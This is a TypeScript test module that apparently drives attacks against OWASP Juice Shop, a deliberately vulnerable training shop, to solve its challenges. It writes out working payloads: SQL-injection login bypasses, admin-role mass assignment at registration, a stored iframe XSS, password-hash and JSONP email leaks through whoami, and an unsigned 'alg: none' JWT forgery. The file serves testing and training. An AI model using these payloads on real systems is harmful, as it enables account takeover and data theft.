import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'

/** SQL injection in the login's email: the comment cuts the password check off. */
export const LOGIN_INJECTIONS = {
  loginAdminChallenge: "' or 1=1--",
  loginBenderChallenge: "bender@juice-sh.op'--",
  loginJimChallenge: "jim@juice-sh.op'--",
} as const

const loginAs = (email: string) => (target: AttackTarget) =>
  request(target).post('/rest/user/login').send({ email, password: 'anything' })

const register = (body: object) => (target: AttackTarget) => request(target).post('/api/Users/').send(body)

export const JIM = { email: 'jim@juice-sh.op', password: 'ncc-1701' }
export const IFRAME_XSS = '<iframe src="javascript:alert(`xss`)">'

/** The Cookie header of a browser where Jim is logged in. */
export async function jimsCookie(target: AttackTarget): Promise<string> {
  const login = await request(target).post('/rest/user/login').send(JIM)
  return `token=${login.body.authentication.token}`
}

const base64url = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url')
/** A token with `alg: none` and no signature, which the shop's verifier accepts. */
export const unsignedToken = (email: string) => `${base64url({ alg: 'none' })}.${base64url({ data: { email } })}.`

/** whoami with extra query parameters, sent with Jim's session cookie. */
const whoamiAsJim = (query: string) => async (target: AttackTarget) =>
  request(target).get(`/rest/user/whoami?${query}`).set('Cookie', await jimsCookie(target))

export const usersAttacks = {
  loginAdminChallenge: loginAs(LOGIN_INJECTIONS.loginAdminChallenge),
  loginBenderChallenge: loginAs(LOGIN_INJECTIONS.loginBenderChallenge),
  loginJimChallenge: loginAs(LOGIN_INJECTIONS.loginJimChallenge),
  // the API takes a role the registration form never sends
  registerAdminChallenge: (target) =>
    register({ email: `boss-${Date.now()}@example.com`, password: 'hunter2', passwordRepeat: 'hunter2', role: 'admin' })(target),
  // the API skips the checks of the form: an empty email and password are accepted
  emptyUserRegistration: register({ email: '', password: '', passwordRepeat: '', securityQuestion: { id: 1 }, securityAnswer: 'x' }),
  // the API stores the email as sent, markup included
  persistedXssUserChallenge: register({ email: IFRAME_XSS, password: 'hunter2', passwordRepeat: 'hunter2' }),
  // whoami hands out any column it is asked for
  passwordHashLeakChallenge: whoamiAsJim('fields=password'),
  // and wraps its answer in any JSONP callback, readable from another site
  emailLeakChallenge: whoamiAsJim('callback=leak'),
  jwtUnsignedChallenge: (target) => request(target).get('/api/Users').set('Authorization', `Bearer ${unsignedToken('jwtn3d@juice-sh.op')}`),
} satisfies Attacks
